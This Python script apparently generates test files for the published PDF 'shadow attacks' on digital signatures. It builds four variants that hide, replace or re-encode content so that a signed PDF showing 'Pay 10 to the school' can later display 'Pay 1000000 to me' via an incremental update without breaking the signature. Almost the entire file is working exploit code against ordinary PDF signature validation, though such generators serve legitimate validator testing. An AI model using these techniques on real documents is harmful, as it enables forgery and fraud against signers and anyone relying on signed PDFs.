#!/usr/bin/env -S python3 -B
"""Shadow attacks (RUB 2021): PDFs that were prepared before they are signed: shadow_attacks.py PKI_DIR OUT_DIR

For each of hide, replace, replace-font and hide-and-replace OUT_DIR/NAME-signed.pdf, which shows the harmless words when a clerk signs
it, and OUT_DIR/NAME-changed.pdf, which shows others though no signed byte was changed."""
import logging
import os
import sys

from foreign_signed import Office
from pdf_update import File, stream

FONT = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding/WinAnsiEncoding>>"
PAGE = b"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents 4 0 R/Resources<</Font<</F 5 0 R>>/XObject<</Over 6 0 R>>>>%s>>"


def words(text, at=b"90 700"):
    return b"BT 0 g /F 14 Tf %s Td (%s) Tj ET" % (at, text)


def pdf(objects, hidden=b""):
    """A small PDF with a table of the old kind; `hidden` lies in it and is in no table. Returns it and where that lies."""
    out, places = bytearray(b"%PDF-1.7\n%\xe2\xe3\xcf\xd3\n"), {}
    lies = len(out)
    out += hidden
    for number in sorted(objects):
        places[number] = len(out)
        out += b"%d 0 obj\n%s\nendobj\n" % (number, objects[number])
    table = len(out)
    out += b"xref\n0 %d\n0000000000 65535 f \n" % (len(objects) + 1)
    out += b"".join(b"%010d 00000 n \n" % places[number] for number in sorted(objects))
    out += b"trailer\n<</Size %d/Root 1 0 R/ID[<%s><%s>]>>\nstartxref\n%d\n%%%%EOF\n" % (len(objects) + 1, b"0" * 32, b"0" * 32, table)
    return bytes(out), lies


def objects(content, catalog=b"", page=b"", **more):
    out = {1: b"<</Type/Catalog/Pages 2 0 R%s>>" % catalog, 2: b"<</Type/Pages/Count 1/Kids[3 0 R]>>", 3: PAGE % page,
           4: stream(content), 5: FONT, 6: stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]")}
    out.update({int(number[1:]): value for number, value in more.items()})
    return out


def hide():
    """A white sheet with harmless words lies over others; the update takes it away."""
    over = stream(b"1 g 80 690 400 30 re f " + words(b"Pay 10 to the school"),
                  b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]/Resources<</Font<</F 5 0 R>>>>")
    made, _ = pdf(objects(words(b"Pay 1000000 to me") + b" /Over Do", o6=over))
    return made, lambda file: file.append_table({6: stream(b"", b"/Type/XObject/Subtype/Form/BBox[0 0 595 842]")})


def field(shown):
    shown = stream(b"/Tx BMC " + words(shown, b"2 5") + b" EMC", b"/Type/XObject/Subtype/Form/BBox[0 0 300 24]/Resources<</Font<</F 5 0 R>>>>")
    widget = b"<</Type/Annot/Subtype/Widget/FT/Tx/T(payee)/V(me)/DA(/F 14 Tf 0 g)/Rect[90 660 390 684]/F 4/P 3 0 R/AP<</N 8 0 R>>>>"
    form = b"/AcroForm<</Fields[7 0 R]/DR<</Font<</F 5 0 R>>>>/DA(/F 14 Tf 0 g)>>"
    return objects(words(b"Pay 1000 to"), form, b"/Annots[7 0 R]", o7=widget, o8=shown), shown


def replace():
    """A field shows other words than its value; the update shows the value."""
    made, _ = pdf(field(b"the school")[0])
    return made, lambda file: file.append_table({8: field(b"me")[1]})


def replace_font():
    """The update gives the font other letters, so that the same bytes show another amount."""
    made, _ = pdf(objects(words(b"Pay 1000")))
    other = b"<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding<</Type/Encoding/Differences[48/nine/one]>>>>"
    return made, lambda file: file.append_table({5: other})


def hide_and_replace():
    """The signed bytes have another content of the page; the update is a table that points to it."""
    other = b"4 0 obj\n%s\nendobj\n" % stream(words(b"Pay 1000000 to me"))
    made, lies = pdf(objects(words(b"Pay 10 to the school")), other)
    return made, lambda file: file.append_table({}, {4: lies})


def main():
    logging.disable(logging.CRITICAL)
    office, target = Office(sys.argv[1]), sys.argv[2]
    os.makedirs(target, exist_ok=True)
    for make in (hide, replace, replace_font, hide_and_replace):
        name = os.path.join(target, make.__name__.replace("_", "-"))
        made, change = make()
        with open(name + "-unsigned.pdf", "wb") as out:
            out.write(made)
        office.sign(name + "-unsigned.pdf", name + "-signed.pdf", name="p256")
        with open(name + "-signed.pdf", "rb") as source, open(name + "-changed.pdf", "wb") as out:
            out.write(change(File(source.read())))


if __name__ == "__main__":
    main()
